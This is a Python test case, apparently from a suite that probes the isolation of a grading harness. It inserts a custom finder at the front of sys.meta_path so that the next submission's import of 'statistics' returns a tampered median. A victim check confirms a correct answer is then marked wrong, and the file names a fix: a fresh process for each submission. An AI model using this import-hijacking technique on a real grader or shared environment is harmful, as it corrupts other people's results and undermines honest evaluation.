# SPDX-License-Identifier: MIT
"""Goal:  the next student's right answer becomes wrong.
Means: a finder in front of sys.meta_path. Whoever imports a module that is not loaded yet gets the
       one that the attacker's finder makes; restoring sys.modules or builtins does not help.
"""

import importlib.abc
import importlib.machinery
import sys

from attack import DONE, attempting, failed, honest, submit

TARGET = "statistics"


class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, self) if name == TARGET else None

    def exec_module(self, module):
        module.median = max


def run(brief):
    attempting()
    sys.modules.pop(TARGET, None)
    sys.meta_path.insert(0, Finder())
    submit("0")
    return DONE


def victim(brief):
    import statistics

    middle = statistics.median([1, 2, 9])
    return honest(brief) if middle == 2 else failed("find the median", f"it is {middle}")


ATTACK = {
    "effect": "the next student imports the attacker's module and is marked wrong",
    "means": "a finder of its own at the head of sys.meta_path",
    "oracle": "grade:spoiled",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "id": "WARM-03",
    "attack_id": "T1574, T1565.003, CWE-427",
    "remedy": "a process of its own for each submission, started fresh",
    "refs": ["The import system, 5.3.4 The meta path"],
    "run": run,
    "victim": victim,
}
